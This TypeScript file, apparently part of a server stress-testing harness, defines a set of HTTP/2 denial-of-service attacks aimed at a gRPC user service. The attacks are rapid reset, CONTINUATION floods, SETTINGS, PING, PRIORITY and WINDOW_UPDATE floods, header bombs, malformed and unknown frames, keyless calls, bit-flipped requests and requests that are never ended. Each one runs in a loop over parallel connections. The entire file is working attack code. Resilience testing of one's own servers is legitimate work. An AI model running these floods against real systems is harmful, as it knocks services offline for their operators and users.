import type { Attack, Field } from "./attack.ts";
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headerBlock,
  headerBomb,
  PING,
  PREFACE,
  PRIORITY,
  RST_STREAM,
  SETTINGS,
  settings,
  uint32,
  WINDOW_UPDATE,
} from "./frame.ts";
import { Line } from "./line.ts";

/** Connections that one attack has at a time. */
const LINES = 4;
const FRAMES_AT_ONCE = 100;
const LAST_STREAM = 2 ** 31 - 1;
const CANCEL = 8;

export const FLOODS: Readonly<Record<string, Attack>> = {
  "rapid reset": flood((field, stream) =>
    Buffer.concat([open(field, stream), frame(RST_STREAM, 0, stream, uint32(CANCEL))]),
  ),
  "rapid reset of whole requests": flood((field, stream) =>
    Buffer.concat([
      open(field, stream),
      frame(DATA, END_STREAM, stream, EMPTY_MESSAGE),
      frame(RST_STREAM, 0, stream, uint32(CANCEL)),
    ]),
  ),
  "resets by the server": flood((field, stream) =>
    Buffer.concat([open(field, stream), frame(WINDOW_UPDATE, 0, stream, uint32(0))]),
  ),
  "CONTINUATION flood": flood(() => frame(CONTINUATION, 0, 1, headerBlock([["a", "b"]])), {
    first: (field) => frame(HEADERS, 0, 1, headers(field)),
  }),
  "CONTINUATION flood, empty": flood(() => frame(CONTINUATION, 0, 1), {
    first: (field) => frame(HEADERS, 0, 1, headers(field)),
  }),
  "SETTINGS flood": flood(() => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])), { deaf: true }),
  "PING flood": flood(() => frame(PING, 0, 0, Buffer.alloc(8)), { deaf: true }),
  "PING flood, answers read": flood(() => frame(PING, 0, 0, Buffer.alloc(8))),
  "empty DATA flood": flood(() => frame(DATA, 0, 1), { first: (field) => open(field, 1) }),
  "PRIORITY flood": flood((_, stream) => frame(PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 1]))),
  "WINDOW_UPDATE flood": flood(() => frame(WINDOW_UPDATE, 0, 0, uint32(1))),
  "frames that there are not": flood((_, stream) => frame(0xfa, 0xff, stream, Buffer.alloc(20))),
  "requests without a path": flood((_, stream) =>
    frame(HEADERS, END_HEADERS | END_STREAM, stream, headerBlock([[":method", "GET"]])),
  ),
  "header bomb": flood((field, stream) =>
    frame(HEADERS, END_HEADERS | END_STREAM, stream, Buffer.concat([headers(field), headerBomb(3_000, 4_000)])),
  ),
  "thousands of headers": flood((field, stream) =>
    frame(
      HEADERS,
      END_HEADERS | END_STREAM,
      stream,
      Buffer.concat([headers(field), ...Array(2_000).fill(headerBlock([["a", "b"]]))]),
    ),
  ),
  "calls without a key": flood(({ origin }, stream) => call({ origin, secret: "" }, stream)),
  "flipped bits": async (field) => void (await Promise.all(Array.from({ length: LINES }, () => flip(field)))),
  "requests that are never ended": flood((field, stream) => open(field, stream)),
};

const EMPTY_MESSAGE = Buffer.alloc(5);

/** A request like any other, but for a few bits. */
async function flip(field: Field): Promise<void> {
  const { random, signal } = field;
  while (!signal.aborted) {
    const line = await Line.open(field);
    const bytes = Buffer.concat([PREFACE, settings(), call(field, 1), call(field, 3, "GetUser")]);
    for (let times = 1 + random.below(5); times > 0; times--) {
      const at = PREFACE.length + random.below(bytes.length - PREFACE.length);
      bytes.writeUInt8(bytes.readUInt8(at) ^ (1 << random.below(8)), at);
    }
    await line?.send(bytes);
    await line?.finish();
  }
}

interface FloodOptions {
  readonly first?: (field: Field) => Buffer;
  readonly deaf?: boolean;
}

/** The same again and again, as fast as the server takes it, and again when it hangs up. */
function flood(next: (field: Field, stream: number) => Buffer, { first, deaf = false }: FloodOptions = {}): Attack {
  return async (field) => {
    const one = async () => {
      while (!field.signal.aborted) {
        const line = await Line.openHttp2(field, { deaf });
        if (line !== undefined && first !== undefined) await line.send(first(field));
        for (let stream = 1; line?.isOpen && stream < LAST_STREAM - 2 * FRAMES_AT_ONCE; stream += 2 * FRAMES_AT_ONCE) {
          await line.send(Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, (_, i) => next(field, stream + 2 * i))));
        }
        line?.close();
      }
    };
    await Promise.all(Array.from({ length: LINES }, one));
  };
}

/** A request that is opened, and not ended. */
export function open(field: Pick<Field, "origin" | "secret">, stream: number, method = "GetUser"): Buffer {
  return frame(HEADERS, END_HEADERS, stream, headers(field, method));
}

export function call(
  field: Pick<Field, "origin" | "secret">,
  stream: number,
  method = "ListUsers",
  message = Buffer.alloc(0),
): Buffer {
  const prefix = Buffer.concat([Buffer.from([0]), uint32(message.length)]);
  return Buffer.concat([open(field, stream, method), frame(DATA, END_STREAM, stream, Buffer.concat([prefix, message]))]);
}

function headers({ origin, secret }: Pick<Field, "origin" | "secret">, method = "GetUser"): Buffer {
  return headerBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", `/roster.v1.UserService/${method}`],
    [":authority", origin.host],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
    ["authorization", `Bearer ${secret}`],
  ]);
}
